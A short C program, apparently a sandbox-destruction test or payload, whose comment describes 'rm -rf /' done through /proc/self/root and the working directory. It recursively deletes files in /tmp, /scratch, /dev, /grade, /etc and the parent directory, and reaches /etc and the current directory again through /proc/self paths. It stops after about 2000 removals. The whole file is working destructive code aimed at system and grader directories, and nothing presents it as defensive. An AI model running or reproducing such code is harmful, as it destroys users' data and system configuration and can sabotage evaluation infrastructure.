/* rm -rf /, and the same through /proc/self/root and the working directory. */
#define _XOPEN_SOURCE 700
#include <ftw.h>
#include <stdio.h>
#include <sys/stat.h>

static int removed;

static int drop(const char *path, const struct stat *status, int type, struct FTW *at) {
  (void)status, (void)type, (void)at;
  if (remove(path) == 0) removed++;
  return removed > 2000;
}

int main(void) {
  const char *const roots[] = {"/tmp", "/scratch", "/dev", "/grade", "/etc", "/proc/self/root/etc", "/proc/self/cwd", ".."};
  for (unsigned i = 0; i < sizeof roots / sizeof *roots; i++) nftw(roots[i], drop, 8, FTW_DEPTH | FTW_PHYS);
  return 0;
}
